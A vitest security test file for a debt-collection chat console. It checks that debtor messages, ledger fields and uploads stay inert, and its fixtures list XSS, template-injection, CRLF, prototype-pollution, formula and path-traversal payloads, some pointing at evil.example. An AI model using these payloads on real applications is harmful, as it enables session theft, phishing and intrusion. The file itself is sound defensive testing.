import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../../src/app.ts';
import type {
  ConversationView,
  DebtorFile,
  DebtorsPage,
  MessagesPage,
} from '../../../src/http/contract/console.ts';
import { DEMO_NOW, testApp } from '../../support/app.ts';
import { TestClock } from '../../support/clock.ts';
import { run } from '../../support/debtor.ts';
import { fileNamed, png } from '../../support/files.ts';
import type { Visitor } from '../../support/visitor.ts';
import { idsOf, newestConversation, type Reader, reader, rows, verifiedVisitor } from './casefile-world.ts';

/** What people who want something else than an answer write: markup, scripts, marks that turn text round. */
const TEXTS: [name: string, text: string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script that ends another', '</script><script>alert(document.cookie)</script>'],
  ['an event handler', '<img src=x onerror="alert(1)">'],
  ['an attribute', `" onmouseover="alert(1)" x='`],
  ['an SVG', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['a frame', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['a link that runs', '[pay here](javascript:alert(1)) <a href="javascript:alert(1)">pay</a>'],
  ['a link of data', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['a form', '<form action="https://evil.example"><input name="password" type="password"></form>'],
  [
    'an e-mail body',
    '<html><head><meta http-equiv="refresh" content="0;url=//evil.example"></head><body>Hi</body></html>',
  ],
  ['a style', '<style>*{background:url(//evil.example/x)}</style><link rel=stylesheet href=//evil.example>'],
  [
    'mathematics',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['a comment', '<!-- --!><img src=x onerror=alert(1)> -->'],
  ['entities', '&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e; &amp;amp;'],
  [
    'template braces',
    '{{creditor}} {{constructor.constructor("alert(1)")()}} \u0024{alert(1)} <%= 1 %> $t(otp.code)',
  ],
  ['a reversed reading', '\u202egpj.exe\u202c \u2066x\u2069'],
  ['zero-width letters', 'p\u200bay\u2060 m\ufeffe\u00ad'],
  ['null bytes', 'a\u0000<b>b\u0000'],
  ['line breaks for a header', 'a\r\nSet-Cookie: sapa_session=x\r\n\r\n<script>'],
  ['separators of lines', 'a\u2028b\u2029c'],
  ['a prototype', '{"__proto__":{"polluted":true}}'],
  ['JSON that ends', '"}],"next":null}//'],
  ['a formula', '=HYPERLINK("https://evil.example","x")'],
  ['very long markup', '<b>'.repeat(1300)],
];

const FILES: [name: string, bytes: Buffer][] = [
  ['<img src=x onerror=alert(1)>.png', png(11)],
  ['../../../etc/passwd.png', png(12)],
  ['..\\..\\windows\\system.png', png(13)],
  ['slip.png%0d%0aSet-Cookie: a=b', png(14)],
  ['gpj.\u202egnp.html', png(15)],
  ['page.html', Buffer.concat([png(), Buffer.from('<html><script>alert(1)</script></html>')])],
  ['both.pdf', Buffer.concat([fileNamed('slip.pdf'), Buffer.from('<script>alert(1)</script>')])],
  [
    'x.svg',
    Buffer.concat([png(), Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')]),
  ],
  ['{{name}} $t(otp.code).png', png(16)],
  [`${'a'.repeat(240)}.png`, png(17)],
];

/** What is taken out of a text on its way in, if anything is: characters nobody sees. */
const bare = (text: string) => text.replace(/[\p{Cc}\p{Cf}\s]+/gu, '');

const clock = new TestClock(DEMO_NOW);
let app: App;
let visitor: Visitor;
let own: Reader;
let conversationId: number;
let debtorId: number;
let creditorId: number;

beforeAll(async () => {
  app = await testApp({ clock });
  ({ creditorId, debtorId } = await idsOf(app, 'D-2001'));
  visitor = await verifiedVisitor(app);
  conversationId = await newestConversation(app);
  own = await reader(app, { creditorIds: [creditorId] });
});
afterAll(() => app.stop());

/** Reads an address and holds it to what every answer of the API must be. */
async function data<T>(url: string): Promise<T> {
  const answer = await own.get(url);
  expect(answer.statusCode, url).toBe(200);
  expect(answer.headers).toMatchObject({
    'content-type': 'application/json; charset=utf-8',
    'x-content-type-options': 'nosniff',
    'content-security-policy': expect.stringContaining("default-src 'none'"),
    'cache-control': 'no-store',
  });
  return answer.json() as T;
}

async function timeline() {
  const items: MessagesPage['items'] = [];
  let before = '';
  for (;;) {
    const page = await data<MessagesPage>(`/conversations/${conversationId}/messages${before}`);
    items.unshift(...page.items);
    if (!page.next) return items;
    before = `?before=${page.next}`;
  }
}

describe('what a debtor writes', () => {
  it('reaches the collector as the plain text that it is', async () => {
    for (const [, text] of TEXTS) {
      clock.advance(1000);
      await visitor.say(text);
    }
    const said = (await timeline()).filter((item) => item.kind === 'message' && item.author === 'debtor');
    for (const [name, text] of TEXTS) {
      expect(
        said.some((item) => bare(item.text) === bare(text)),
        name,
      ).toBe(true);
    }
    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
  }, 60_000);

  it('stays plain in a summary, a dispute and a handoff', async () => {
    const note = '<img src=x onerror=alert(1)> {{case}} $t(otp.code)';
    for (const text of ['start over', 'dispute 0502', 'something else', 'all', note]) await visitor.say(text);
    expect(await rows(app, 'SELECT note FROM disputes WHERE note = ?', note)).toHaveLength(1);
    await visitor.say('I want to talk to a person <script>alert(1)</script>');
    const view = await data<ConversationView>(`/conversations/${conversationId}`);
    expect(view.handoff!.summary).not.toContain('<');
    expect(view.handoff!.disputes.length).toBeGreaterThan(0);
    expect(view.owner.kind).toBe('queue');
    await data<DebtorFile>(`/debtors/${debtorId}`);
  });
});

describe('what a ledger holds', () => {
  it('is plain text too, wherever it is shown', async () => {
    for (const [name, text] of TEXTS) {
      const given = text.slice(0, 500);
      await app.database.write(async (tx) => {
        run(
          tx,
          'UPDATE debtors SET name = @given, external_id = @number, external_key = @number WHERE id = @debtorId',
          {
            given,
            number: `<b>${name}</b>`,
            debtorId,
          },
        );
        run(
          tx,
          `UPDATE handoffs SET summary = @given, next_step = @given, resolution = @given,
             context = json_set(context, '$.identity', json_object('name', @given, 'debtorNumber', @given))`,
          { given },
        );
      });
      const file = await data<DebtorFile>(`/debtors/${debtorId}`);
      expect(file.name, name).toBe(given);
      expect(file.number, name).toBe(`<b>${name}</b>`);
      const view = await data<ConversationView>(`/conversations/${conversationId}`);
      expect(view.debtor?.name, name).toBe(given);
      expect(view.handoff?.summary.startsWith(`${given} (${given}): `), name).toBe(true);
      const query = encodeURIComponent(given.slice(0, 200).replace(/[\ud800-\udfff]/g, ''));
      const { items } = await data<DebtorsPage>(`/debtors?q=${query}`);
      for (const item of items) expect(item.creditor.id).toBe(creditorId);
    }
    await app.database.write(async (tx) => {
      run(
        tx,
        `UPDATE debtors SET name = 'Plain', external_id = 'D-2001', external_key = 'D2001' WHERE id = @debtorId`,
        {
          debtorId,
        },
      );
    });
  });

  it('is left out where it is broken, not guessed', async () => {
    for (const context of [
      '',
      '{',
      'null',
      '[]',
      '{"balance":[{"outstanding":{"minor":"<b>","currency":"usd"}}]}',
    ]) {
      await app.database.write(async (tx) => {
        run(tx, 'UPDATE handoffs SET context = @context', { context });
      });
      const view = await data<ConversationView>(`/conversations/${conversationId}`);
      expect(view.handoff, context).toMatchObject({ balance: [], invoices: [], tried: [], attachments: [] });
    }
  });
});

describe('what a debtor uploads', () => {
  it('never becomes a document, and its name never leaves its place', async () => {
    for (const [name, bytes] of FILES) {
      clock.advance(1000);
      await visitor.uploadBytes(name, bytes);
    }
    const files = (await timeline()).flatMap((item) => (item.kind === 'message' ? (item.files ?? []) : []));
    expect(files).toHaveLength(FILES.length);
    for (const file of files) {
      expect(file.name).not.toMatch(/[/\\<>"\p{Cc}\p{Cf}]/u);
      expect(file.url).toMatch(/^\/console\/api\/files\/[\w-]{32}$/);
      const answer = await app.server.inject({ url: file.url, headers: own.headers });
      expect(answer.statusCode).toBe(200);
      expect(['image/png', 'application/pdf']).toContain(answer.headers['content-type']);
      expect(answer.headers).toMatchObject({
        'x-content-type-options': 'nosniff',
        'content-security-policy': "sandbox; default-src 'none'",
      });
      expect(answer.headers['content-disposition']).toMatch(
        /^(inline|attachment); filename="[\w.() -]+"; filename\*=UTF-8''[\w.%~-]+$/,
      );
      if (answer.headers['content-type'] !== 'image/png') {
        expect(answer.headers['content-disposition']).toMatch(/^attachment;/);
      }
      expect(answer.headers['set-cookie']).toBeUndefined();
    }
  });

  it('is refused when it is no picture and no PDF, whatever it is called', async () => {
    const before = await rows(app, 'SELECT id FROM attachments');
    for (const [name, content] of [
      ['a.png', '<html><script>alert(1)</script></html>'],
      ['a.pdf', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
      ['a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
      ['a.gif', 'GIF89a/*<script>*/=alert(1)//'],
    ] as const) {
      const [answer] = await visitor.uploadBytes(name, Buffer.from(content));
      expect(answer?.type, name).toBe('refusal');
    }
    expect(await rows(app, 'SELECT id FROM attachments')).toEqual(before);
  });
});

describe('pages of the server', () => {
  it('carry nothing a debtor wrote, and errors carry nothing that was asked for', async () => {
    const marks = ['alert(1)', 'evil.example', 'onerror'];
    const attack = '%3Cscript%3Ealert(1)%3C/script%3E';
    const paths = [
      '/',
      '/console',
      `/console/conversations/${conversationId}`,
      `/console/debtors/${debtorId}`,
    ];
    paths.push(
      `/console/${attack}`,
      `/console/api/${attack}`,
      `/console/api/files/${attack}`,
      `/console/api/debtors/${attack}`,
    );
    for (const url of paths) {
      const answer = await app.server.inject({ url, headers: { ...own.headers, accept: 'text/html' } });
      for (const mark of marks) expect(answer.body, `${url} ${mark}`).not.toContain(mark);
      expect(answer.headers['x-content-type-options'], url).toBe('nosniff');
      const page = String(answer.headers['content-type']).startsWith('text/html');
      if (page) expect(answer.headers['content-security-policy'], url).toMatch(/script-src (?![^;]*unsafe-)/);
    }
  });
});
